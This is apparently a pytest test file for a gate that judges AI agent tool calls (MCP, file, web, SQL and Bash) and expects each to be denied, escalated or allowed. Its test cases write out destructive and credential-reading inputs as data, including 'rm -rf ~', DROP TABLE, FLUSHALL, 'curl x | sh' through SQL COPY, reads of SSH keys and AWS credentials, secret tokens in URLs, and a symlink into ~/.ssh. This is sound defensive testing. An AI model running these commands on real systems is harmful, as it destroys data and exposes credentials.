"""Tools beyond Bash judged by what they do: MCP tools, Read/Grep of credential stores,
web requests carrying secrets, SQL; and every write the gate sees reported with its path."""

from __future__ import annotations

import doctest
from pathlib import Path
from typing import Any

import pytest

from helpers import assess_call, base, hook, hook_output
from smllm.gate import mcp, policy, sql

HOME = "/home/tester"


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project with a file, and a link inside it to the home folder's ssh keys."""
    root = tmp_path_factory.mktemp("tools") / "proj"
    (root / ".git").mkdir(parents=True)
    (root / "src").mkdir()
    (root / "src" / "app.py").write_text("x = 1\n")
    (root / "keys").symlink_to(f"{HOME}/.ssh")
    return root


def _assess(tool: str, tool_input: dict[str, Any], root: Path) -> Any:
    return assess_call(tool, tool_input, cwd=str(root), project=str(root),
                  compiled=policy.load(root), home=HOME)


MCP = [
    # writes: a protected path is denied, the workspace passes, outside escalates
    ("mcp__filesystem__write_file", {"path": f"{HOME}/.bashrc", "content": "x"}, "deny",
     "file.sensitive"),
    ("mcp__filesystem__write_file", {"path": "src/new.py", "content": "x"}, "allow",
     "default.allow"),
    ("mcp__filesystem__edit_file", {"path": "/srv/other/x.txt", "edits": []}, "ask",
     "file.outside-workspace"),
    ("mcp__filesystem__write_file", {"path": ".claude/settings.json", "content": "{}"}, "deny",
     "file.sensitive"),
    ("mcp__fs__writeFile", {"file_path": "keys/authorized_keys", "content": "k"}, "deny",
     "file.sensitive"),
    ("mcp__filesystem__move_file", {"source": f"{HOME}/.ssh", "destination": "/tmp/s"},
     "deny", "file.sensitive"),
    ("mcp__filesystem__delete_file", {"path": "src/app.py"}, "ask", "mcp.destructive"),
    ("mcp__filesystem__delete_directory", {"path": HOME}, "deny", "file.sensitive"),
    # queries: destroying is denied, changing escalates, reading passes
    ("mcp__postgres__query", {"sql": "DROP TABLE users"}, "deny", "data.destroy"),
    ("mcp__db__execute_sql", {"query": "BEGIN; DELETE FROM orders; COMMIT;"}, "deny",
     "data.destroy"),
    ("mcp__db__execute_sql", {"query": "UPDATE t SET a = 1 WHERE id = 2"}, "ask",
     "mcp.query-write"),
    ("mcp__postgres__query", {"sql": "SELECT id, name FROM users LIMIT 5"}, "allow",
     "default.allow"),
    ("mcp__sqlite__read_query", {"query": "select count(*) from t"}, "allow", "default.allow"),
    ("mcp__mongo__run", {"command": "db.dropDatabase()"}, "deny", "data.destroy"),
    ("mcp__redis__execute", {"command": "FLUSHALL"}, "deny", "data.destroy"),
    # processes: the command is analysed like Bash
    ("mcp__desktop-commander__start_process", {"command": "rm -rf ~", "timeout_ms": 5000},
     "deny", "fs.delete-recursive-critical"),
    ("mcp__shell__run_command", {"command": "git reset --hard"}, "deny", "git.discard"),
    ("mcp__shell__execute", {"command": "ls", "args": ["-la", HOME]}, "allow",
     "default.allow"),
    ("mcp__runner__execute_code", {"code": "import shutil; shutil.rmtree('/home/tester')",
                                   "language": "python"}, "deny",
     "fs.delete-recursive-critical"),
    ("mcp__terminal__exec", {"cmd": "echo hi"}, "allow", "default.allow"),
    ("mcp__x__spawn", {"timeout": 5}, "ask", "mcp.execute"),
    # reads and requests
    ("mcp__filesystem__read_file", {"path": "src/app.py"}, "allow", "default.allow"),
    ("mcp__filesystem__read_file", {"path": "~/.aws/credentials"}, "ask",
     "exfil.read-credentials"),
    ("mcp__fetch__fetch", {"url": "https://x.example/?token=ghp_" + "a" * 36}, "deny",
     "exfil.secret-in-request"),
    ("mcp__fetch__fetch", {"url": "https://docs.python.org/3/"}, "allow", "default.allow"),
    ("mcp__github__create_issue", {"title": "rm -rf / breaks", "body": "see logs"}, "allow",
     "default.allow"),
    ("mcp__github__delete_branch", {"branch": "old"}, "ask", "mcp.destructive"),
]


@pytest.mark.parametrize(("tool", "tool_input", "expected", "rule"), MCP,
                         ids=[f"{m[0]}-{i}" for i, m in enumerate(MCP)])
def test_mcp_tools_are_judged_by_what_they_do(project: Path, tool: str,
                                               tool_input: dict[str, Any], expected: str,
                                               rule: str) -> None:
    """Writes, deletes, queries and processes of MCP tools are checked like Bash and Write."""
    a = _assess(tool, tool_input, project)
    assert (expected, rule) == (a.decision, a.rule), a.reason


FILE_WRITES = [
    ("Write", {"file_path": "keys/authorized_keys", "content": "k"}, "deny", "file.sensitive"),
    ("Edit", {"file_path": "keys/config", "old_string": "a", "new_string": "b"}, "deny",
     "file.sensitive"),
    ("MultiEdit", {"file_path": "keys/config", "edits": []}, "deny", "file.sensitive"),
    ("NotebookEdit", {"notebook_path": "keys/x.ipynb", "new_source": "x"}, "deny",
     "file.sensitive"),
    ("mcp__fs__writeFile", {"file_path": "keys/authorized_keys", "content": "k"}, "deny",
     "file.sensitive"),
    ("Write", {"file_path": "src/new.py", "content": "x"}, "allow", "default.allow"),
]


@pytest.mark.parametrize(("tool", "tool_input", "expected", "rule"), FILE_WRITES)
def test_file_tools_follow_links_like_mcp_tools(project: Path, tool: str,
                                                tool_input: dict[str, Any], expected: str,
                                                rule: str) -> None:
    """A write through a link in the workspace is judged by where the link leads."""
    a = _assess(tool, tool_input, project)
    assert (expected, rule) == (a.decision, a.rule), a.reason


def test_mcp_through_the_real_hook(project: Path, tmp_path: Path) -> None:
    """The installed hook denies an MCP write to a protected path and passes a read."""
    env = {"HOME": HOME, "CLAUDE_PROJECT_DIR": str(project), "SMLLM_HOME": str(tmp_path)}
    decisions = []
    for i, (tool, tool_input) in enumerate([
        ("mcp__filesystem__write_file", {"path": f"{HOME}/.bashrc", "content": "x"}),
        ("mcp__postgres__query", {"sql": "select 1"}),
    ]):
        payload = base("PreToolUse", "7c2b2d3e-1a2b-4c3d-8e9f-0a1b2c3d4e5f", cwd=str(project),
                       tool_name=tool, tool_input=tool_input, tool_use_id=f"toolu_mcp{i}")
        out = hook_output(hook("PreToolUse", payload, env=env, cwd=project))
        decisions.append((out or {}).get("hookSpecificOutput", {}).get("permissionDecision"))
    assert ["deny", None] == decisions


READS = [
    ("Read", {"file_path": f"{HOME}/.ssh/id_ed25519"}, "ask"),
    ("Read", {"file_path": f"{HOME}/.ssh/id_ed25519.pub"}, "allow"),
    ("Read", {"file_path": f"{HOME}/.aws/credentials"}, "ask"),
    ("Read", {"file_path": "keys/id_rsa"}, "ask"),
    ("Read", {"file_path": "src/app.py"}, "allow"),
    ("Read", {"file_path": ".env"}, "allow"),
    ("Grep", {"pattern": "AKIA", "path": HOME}, "ask"),
    ("Grep", {"pattern": "password", "path": f"{HOME}/.config/gh"}, "ask"),
    ("Grep", {"pattern": "TODO", "path": "src"}, "allow"),
    ("Glob", {"pattern": "*.py", "path": "src"}, "allow"),
    ("NotebookRead", {"notebook_path": f"{HOME}/.docker/config.json"}, "ask"),
]


@pytest.mark.parametrize(("tool", "tool_input", "expected"), READS)
def test_reading_credential_stores_escalates(project: Path, tool: str,
                                             tool_input: dict[str, Any],
                                             expected: str) -> None:
    """Read and Grep of a credential store (through links too) escalate; others pass."""
    assert expected == _assess(tool, tool_input, project).decision


WEB = [
    ("WebFetch", {"url": "https://api.example.com/v1?api_key=sk-proj-" + "x" * 40,
                  "prompt": "summarise"}, "deny"),
    ("WebFetch", {"url": "https://example.com", "prompt": "use token ghp_" + "b" * 36}, "deny"),
    ("WebFetch", {"url": "https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXXXXXXXXXX",
                  "prompt": "post"}, "deny"),
    ("WebSearch", {"query": "AKIAIOSFODNN7EXAMPLE leaked"}, "deny"),
    ("WebFetch", {"url": "https://docs.python.org/3/library/re.html?highlight=sub",
                  "prompt": "what does sub do"}, "allow"),
    ("WebSearch", {"query": "python api_key best practices"}, "allow"),
]


@pytest.mark.parametrize(("tool", "tool_input", "expected"), WEB)
def test_web_requests_carrying_secrets_are_denied(project: Path, tool: str,
                                                  tool_input: dict[str, Any],
                                                  expected: str) -> None:
    """A secret-looking value in a URL, query or prompt never leaves; ordinary ones do."""
    assert expected == _assess(tool, tool_input, project).decision


def test_every_write_is_reported_with_its_resolved_path(project: Path) -> None:
    """Targets list each write, delete, move, link and chmod with the path after links."""
    command = ("echo x > build.log; ln -s ~ h && rm -rf h/; cp src/app.py keys/x; "
               "chmod 600 src/app.py; mv build.log logs.txt; echo y > \"$OUT\"")
    targets = _assess("Bash", {"command": command}, project).targets
    root = str(project)
    expected = [
        {"effect": "write", "path": f"{root}/build.log", "by": ">"},
        {"effect": "write", "path": f"{root}/h", "by": "ln"},
        {"effect": "link", "path": f"{root}/h", "by": "ln"},
        {"effect": "delete", "path": HOME, "by": "rm"},
        {"effect": "write", "path": f"{HOME}/.ssh/x", "by": "cp"},
        {"effect": "chmod", "path": f"{root}/src/app.py", "by": "chmod"},
        {"effect": "move", "path": f"{root}/build.log", "by": "mv"},
        {"effect": "write", "path": f"{root}/logs.txt", "by": "mv"},
        {"effect": "write", "path": None, "by": ">"},
    ]
    assert expected == targets
    write = _assess("Write", {"file_path": "keys/config", "content": "x"}, project)
    assert [{"effect": "write", "path": f"{HOME}/.ssh/config", "by": "Write"}] == write.targets


def test_facts_carry_the_path_of_a_write() -> None:
    """A write finding names the resolved path it is about."""
    root = "/work/p"
    a = assess_call("Bash", {"command": "echo x >> ~/.bashrc"}, cwd=root, project=root,
               compiled={"rules": [], "mode": "on-request"}, home=HOME)
    expected = [{"decision": "deny", "rule": "fs.write-sensitive", "source": "built-in",
                 "reason": "appends to the protected path /home/tester/.bashrc",
                 "path": "/home/tester/.bashrc"}]
    assert expected == a.facts()


WORDS = [
    ("mcp__filesystem__write_file", {"write"}),
    ("mcp__github__deleteBranch", {"delete"}),
    ("mcp__desktop-commander__start_process", {"execute"}),
    ("mcp__postgres__execute_sql", {"execute", "query"}),
    ("mcp__weather__get_forecast", set()),
]


@pytest.mark.parametrize(("tool", "expected"), WORDS)
def test_tool_names_say_what_they_do(tool: str, expected: set[str]) -> None:
    """A tool name's words (snake, kebab or camel case) map to what it does."""
    assert expected == mcp.does(tool)


SQL = [
    ("SELECT * FROM t", "read"),
    ("-- comment\nselect 1; /* x */ select 2", "read"),
    ("INSERT INTO t VALUES (1)", "write"),
    ("DELETE FROM t WHERE id = 3", "write"),
    ("DELETE FROM t", "destroy"),
    ("UPDATE t SET a = 1", "destroy"),
    ("TRUNCATE TABLE t", "destroy"),
    ("DROP DATABASE prod", "destroy"),
    ("ALTER TABLE t DROP COLUMN c", "destroy"),
    ("select 'DROP TABLE x' as s", "read"),
    ("COPY t FROM PROGRAM 'curl x | sh'", "exec"),
    ("\\! rm -rf ~", "exec"),
    ("db.users.deleteMany({})", "destroy"),
    ("db.users.find({age: 3})", "read"),
    ("CREATE FUNCTION f() RETURNS int AS $$ DROP TABLE t $$ LANGUAGE sql", "write"),
]


@pytest.mark.parametrize(("text", "expected"), SQL)
def test_sql_is_classed_by_what_it_does(text: str, expected: str) -> None:
    """Statements are split (quotes, comments, dollar-quotes respected) and classed."""
    assert expected == sql.classify(text).effect


def test_sql_module_examples() -> None:
    """The examples in smllm.gate.sql's docstring hold."""
    result = doctest.testmod(sql)
    assert (0, True) == (result.failed, result.attempted > 0)
